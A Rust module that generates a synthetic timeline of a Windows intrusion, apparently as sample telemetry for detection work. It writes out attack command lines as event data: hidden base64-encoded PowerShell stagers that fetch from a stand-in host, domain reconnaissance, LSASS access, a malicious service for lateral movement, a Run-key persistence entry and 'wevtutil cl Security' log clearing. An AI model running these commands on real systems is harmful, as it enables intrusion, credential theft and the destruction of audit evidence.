//! Tuesday's intrusion, as a list: the table in the module's doc, step by step.

use super::company::{COMMAND_NAME, COMMAND_SERVER, FILES01, POWERSHELL, WINWORD, WKS01};
use super::dice::Dice;
use super::scene::{Act, Event};

const MARA: &str = "mara.linde";
const BACKUP: &str = "svc.backup";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const IMPLANT: &str = r"C:\Users\Public\wupd.exe";
const TOOL: &str = r"C:\Users\Public\m64.exe";
const LURE: &str = r"C:\Users\mara.linde\Downloads\Invoice-2291.docm";
const RUN_KEY: &str = r"HKU\S-1-5-21-1004336348-1177238915-682003330-1105\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive Update";

/// What the encoded command says; it does nothing, and where it points does not exist.
const STAGER: &str = "$u='https://cdn.update-check.example/stage'; while($true){ Invoke-RestMethod $u | Out-Null; Start-Sleep -Seconds 60 }";
const REMOTE_STAGER: &str = "$u='https://cdn.update-check.example/files'; Invoke-RestMethod $u | Out-Null; Start-Sleep -Seconds 300";

pub fn events() -> Vec<Event> {
    let encoded = format!("powershell.exe -NoP -NonI -W Hidden -Enc {}", encode(STAGER));
    let service = format!("%COMSPEC% /C start /b powershell.exe -nop -w hidden -enc {}", encode(REMOTE_STAGER));
    let shell = |name: &str| name.to_string();
    let mut events = vec![
        at(WKS01, "08:41:07.210", Act::Drop { handle: shell("outlook"), path: LURE.into() }),
        at(WKS01, "08:41:07.342", Act::Mark { handle: shell("outlook"), path: LURE.into() }),
        at(WKS01, "08:41:31.018", start("lure", "outlook", WINWORD, &format!("\"{WINWORD}\" /n \"{LURE}\""), MARA)),
        at(WKS01, "08:41:52.467", start("stager", "lure", POWERSHELL, &encoded, MARA)),
        at(WKS01, "08:41:53.120", Act::Script { handle: shell("stager"), text: STAGER }),
        at(WKS01, "08:42:09.871", Act::Resolve { handle: shell("stager"), name: COMMAND_NAME, answer: COMMAND_SERVER }),
        at(WKS01, "08:44:20.114", start("d1", "stager", r"C:\Windows\System32\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all", MARA)),
        at(WKS01, "08:44:58.640", start("d2", "stager", r"C:\Windows\System32\systeminfo.exe", "\"C:\\Windows\\system32\\systeminfo.exe\"", MARA)),
        at(
            WKS01,
            "08:45:41.377",
            start("d3", "stager", r"C:\Windows\System32\net.exe", "\"C:\\Windows\\system32\\net.exe\" group \"domain admins\" /domain", MARA),
        ),
        at(WKS01, "08:46:10.902", start("d4", "stager", r"C:\Windows\System32\nltest.exe", "\"C:\\Windows\\system32\\nltest.exe\" /dclist:acme.example", MARA)),
        at(WKS01, "08:46:52.255", start("d5", "stager", r"C:\Windows\System32\net.exe", "\"C:\\Windows\\system32\\net.exe\" view \\\\FILES01", MARA)),
        at(WKS01, "08:55:02.730", Act::Drop { handle: shell("stager"), path: IMPLANT.into() }),
        at(WKS01, "08:55:22.408", start("implant", "stager", IMPLANT, &format!("\"{IMPLANT}\" -q"), MARA)),
        at(WKS01, "08:56:02.591", Act::Open { handle: shell("implant"), target: "lsass", rights: 0x1010 }),
        at(WKS01, "08:56:03.044", Act::Open { handle: shell("implant"), target: "lsass", rights: 0x1010 }),
        at(WKS01, "08:58:31.116", Act::Drop { handle: shell("stager"), path: TOOL.into() }),
        at(WKS01, "08:58:31.402", Act::Detect { handle: shell("stager"), path: TOOL.into(), threat: "HackTool:Win64/Mimikatz.D", action: "Quarantine" }),
        at(FILES01, "09:20:14.305", Act::Logon { user: BACKUP, kind: 3, from: "10.20.1.11" }),
        at(FILES01, "09:20:14.880", Act::Share { user: BACKUP, from: "10.20.1.11", share: "IPC$", path: "svcctl".into() }),
        at(FILES01, "09:20:31.002", Act::Service { name: "WinHelpSvc", path: service.clone(), by: BACKUP }),
        at(FILES01, "09:20:31.655", start("service-shell", "services", CMD, &service.replace("%COMSPEC%", CMD), "SYSTEM")),
        at(
            FILES01,
            "09:20:32.107",
            start("remote", "service-shell", POWERSHELL, &format!("powershell.exe -nop -w hidden -enc {}", encode(REMOTE_STAGER)), "SYSTEM"),
        ),
        at(FILES01, "09:20:33.018", Act::Script { handle: shell("remote"), text: REMOTE_STAGER }),
        at(FILES01, "09:24:40.716", Act::Thread { handle: shell("remote"), target: "spoolsv", function: None }),
        at(FILES01, "09:24:52.330", Act::Resolve { handle: shell("spoolsv"), name: COMMAND_NAME, answer: COMMAND_SERVER }),
        at(WKS01, "09:31:12.488", Act::SetValue { handle: shell("stager"), key: RUN_KEY.into(), data: format!("\"{IMPLANT}\" -q") }),
        at(FILES01, "11:32:01.140", start("clean", "remote", r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe cl Security", "SYSTEM")),
        at(FILES01, "11:32:05.502", Act::ClearLog { user: "SYSTEM" }),
    ];
    events.extend(["d1", "d2", "d3", "d4", "d5"].into_iter().zip(0..).map(|(handle, step)| {
        let ended = at(WKS01, "08:44:21.300", Act::End { handle: handle.into() });
        Event { time: ended.time + step * 40_000, ..ended }
    }));
    events.extend(beacon(WKS01, "stager", "08:42:10.020", "11:29:30.000", 60_000, 3_000));
    events.extend(beacon(FILES01, "spoolsv", "09:24:53.100", "11:31:00.000", 300_000, 4_000));
    events
}

/// Calls home at a regular interval, give or take a spread.
fn beacon(host: &'static str, handle: &str, from: &str, to: &str, interval: i64, spread: i64) -> Vec<Event> {
    let mut dice = Dice::new(interval.unsigned_abs());
    let call = || Act::Connect { handle: handle.into(), remote: COMMAND_SERVER, port: 443 };
    let (first, last) = (at(host, from, call()).time, at(host, to, call()).time);
    let count = (last - first) / interval;
    (0..=count).map(|number| Event { time: first + number * interval + dice.around(0, spread), host, act: call() }).collect()
}

fn start(handle: &str, parent: &str, image: &'static str, command: &str, user: &'static str) -> Act {
    Act::Start { handle: handle.into(), parent: parent.into(), image, command: command.into(), user }
}

/// Something on Tuesday at this time of day.
fn at(host: &'static str, time: &str, act: Act) -> Event {
    Event { time: super::benign::time_on(1, time), host, act }
}

/// As PowerShell wants it: base64 of UTF-16, little endian.
fn encode(text: &str) -> String {
    const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut encoded = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().chain([0, 0].iter()).take(3).fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte));
        for place in 0..4 {
            let sign = SIGNS[bits >> (18 - 6 * place) & 63];
            encoded.push(if place <= chunk.len() { char::from(sign) } else { '=' });
        }
    }
    encoded
}
